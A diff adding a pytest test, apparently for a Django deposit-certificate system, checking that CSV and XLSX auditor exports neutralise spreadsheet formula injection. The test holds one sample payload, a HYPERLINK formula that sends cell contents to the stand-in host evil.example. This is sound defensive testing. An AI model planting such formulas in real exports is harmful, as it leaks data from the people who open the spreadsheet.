@@ -176,3 +176,35 @@ def test_the_depositor_sees_who_looked(owner, other, clerk, reads):
 
     with pytest.raises(NotFound):
         account_readers(me, other.pk)
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_a_formula_in_a_certificate_purpose_is_inert_in_the_export(auditor, owner, fmt):
+    """Formula injection (issue 11, item 12): a depositor types ``=HYPERLINK(...)`` as the
+    purpose of a certificate; in the auditors' export it is text, not a live formula."""
+    from hpf.certificates.services import certificate_issue
+
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
+    certificate_issue(
+        Actor(f"depositor:{owner.depositor_id}", "web"),
+        account_id=owner.pk,
+        kind="DEPOSIT",
+        purpose=evil,
+        hall="网上业务大厅",
+    )
+    http = verified_client(auditor)
+    response = http.post(f"{reverse('auditor:export', kwargs={'fmt': fmt})}")
+    assert response.status_code == 200
+    if fmt == "csv":
+        import csv as csv_module
+
+        rows = list(csv_module.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+        cells = [c for row in rows for c in row]
+    else:
+        book = load_workbook(io.BytesIO(response.content))
+        sheet = book.active
+        assert sheet is not None
+        cells = [c.value for row in sheet.iter_rows() for c in row]
+        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
+    assert "'" + evil in cells
+    assert not any(isinstance(c, str) and c.startswith(("=", "+", "@")) for c in cells)
